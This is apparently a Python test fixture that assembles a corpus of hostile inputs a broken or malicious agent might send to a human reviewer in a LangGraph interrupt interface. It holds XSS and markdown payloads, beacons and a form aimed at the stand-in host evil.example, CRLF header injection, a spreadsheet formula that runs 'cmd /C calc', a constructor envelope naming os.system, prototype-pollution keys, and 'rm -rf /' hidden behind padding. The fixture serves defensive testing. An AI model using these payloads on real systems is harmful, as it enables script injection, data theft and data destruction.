"""What a hostile or broken agent may ask a person: by name, so that a graph can be told which."""

from __future__ import annotations

import math
from typing import Any

PWN = "window.__pwned=1"
EVIL = "https://evil.example"
BIG = 10 * 2**20


def nested(depth: int) -> Any:
    value: Any = "the bottom"
    for level in range(depth):
        value = [value] if level % 2 else {"in": value}
    return value


MARKUP = {
    "script": f"<script>{PWN}</script>",
    "handler": f"<img src=x onerror={PWN}>",
    "closing": f"</textarea></script></title></style>--><script>{PWN}</script>",
    "attribute": f'" onmouseover="{PWN}" autofocus onfocus=\'{PWN}\' x=`',
    "svg": f"<svg onload={PWN}><use href='data:image/svg+xml,x'/></svg>",
    "srcdoc": f'<iframe srcdoc="<script>parent.{PWN[7:]}</script>"></iframe>',
    "beacon": f"<img src={EVIL}/a.png> <link rel=stylesheet href={EVIL}> <video src={EVIL}>",
    "style": f"<style>body{{display:none;background:url({EVIL}/s)}}</style>",
    "form": f'<form action="{EVIL}"><input name=q><button>Approve</button></form>',
    "meta": f'<meta http-equiv="refresh" content="0;url={EVIL}"><base href="{EVIL}">',
    "htmx": f"<b hx-get='{EVIL}' hx-trigger=load hx-on::load='{PWN}'>x</b>",
    "oob": '<div id="page" hx-swap-oob="true">gone</div><meta name="csrf" content="x">',
    "template": "{{ request.user.password }}{% load static %}${7*7}#{7*7}",
}
MARKDOWN = {
    "js_link": f"[Approve](javascript:{PWN}) [x](JaVaScRiPt&#58;{PWN}) <javascript:{PWN}>",
    "data_link": f"[x](data:text/html,<script>{PWN}</script>) [y](vbscript:x)",
    "md_image": f"![x]({EVIL}/pixel.png) ![y](data:image/svg+xml,x)",
    "md_html": f"**bold** <script>{PWN}</script> <a href='/logout/'>x</a> [x](//evil.example)",
    "md_bomb": "[" * 5_000 + "*_`" * 1_000,
    "fence": f"```<script>{PWN}</script>\n# Approved by Ada\n```",
}
TEXT = {
    "bidi": "pay \u202e000,1\u202c \u2066to\u2069 evil\u200f",
    "zero_width": "ap\u200bpro\u200dve\ufeff\u00ad",
    "homoglyph": "https://раураl.example/ \N{FULLWIDTH LESS-THAN SIGN}script>",
    "nul": "before\0after",
    "surrogate": "half \ud83d of a pair",
    "reverse_pair": "\ude00\ud83d",
    "crlf": "x\r\nSet-Cookie: sessionid=1\r\n\r\n<script>",
    "ansi": "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\u2028\u2029",
    "formula": '=HYPERLINK("https://evil.example","ok")\t@SUM(1)\n+1|cmd|\' /C calc\'!A0',
    "imitation": '<div class="banner ok">Approved by Ada · nothing to do</div>',
    "hidden_end": "rm " + "-v " * 20_000 + "&& rm -rf /",
    "zalgo": "e" + "\u0301" * 5_000,
    "empty": "",
    "blank": " \n\t\u3000",
}
DATA = {
    "nan": {"amount": math.nan, "most": math.inf, "least": -math.inf},
    "prototype": {
        "__proto__": {"polluted": 1},
        "constructor": {"prototype": {"polluted": 1}},
        "toString": 1,
        "__class__": "x",
    },
    "envelope": {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"x": "id"}},
    "interrupt_keys": {"__interrupt__": [{"value": 1, "id": "x"}], "__pregel_resuming": True},
    "key_markup": {f"<img src=x onerror={PWN}>": {"<b>": ["<i>"]}, "": 1, " ": 2, "a\0b": 3},
    "big_numbers": {"a": 2**64 - 1, "b": -(2**63), "c": 1e308, "d": -0.0},
    "not_text_keys": {2: "a", None: "b", True: "c", 1.5: "d"},
    "bytes": {"raw": b"\xff\x00<script>"},
    "wide": {f"k{n}": n for n in range(5_000)},
    "deep": nested(180),
    "card_lies": {
        "action_requests": [
            {"name": MARKUP["handler"], "args": MARKUP, "description": MARKDOWN["js_link"]}
        ],
        "review_configs": [
            {"action_name": MARKUP["handler"], "allowed_decisions": ["approve", "<b>"]}
        ],
    },
    "inbox_lies": {
        "action_request": {"action": MARKUP["script"], "args": MARKDOWN | TEXT},
        "config": {"allow_accept": True, "allow_edit": True, "allow_respond": "<b>"},
        "description": MARKDOWN["md_html"] + MARKDOWN["md_image"],
    },
    "broken_card": {"action_requests": [{"name": None, "args": [1]}, 3], "review_configs": "x"},
}
LARGE: dict[str, Any] = {
    "large": "x" * BIG,
    "large_markup": "<img src=x onerror=alert(1)>" * (BIG // 28),
    "large_lines": "- **a**\n" * (BIG // 8),
    "large_beside": {"question": "Go on?", "text": "y" * BIG},
    "large_text": {"text_to_revise": "y" * BIG},
    "large_inside": {"to": "somebody", "lines": ["z" * BIG]},
}
SMALL: dict[str, Any] = MARKUP | MARKDOWN | TEXT | DATA
# What LangGraph's own checkpoints do not take: the run fails and says so.
REFUSED: dict[str, Any] = {
    "a_thousand_deep": nested(1_000),
    "beyond_64_bits": {"a": 10**400},
    "an_object": {"a": object()},
}
CORPUS: dict[str, Any] = SMALL | LARGE | REFUSED
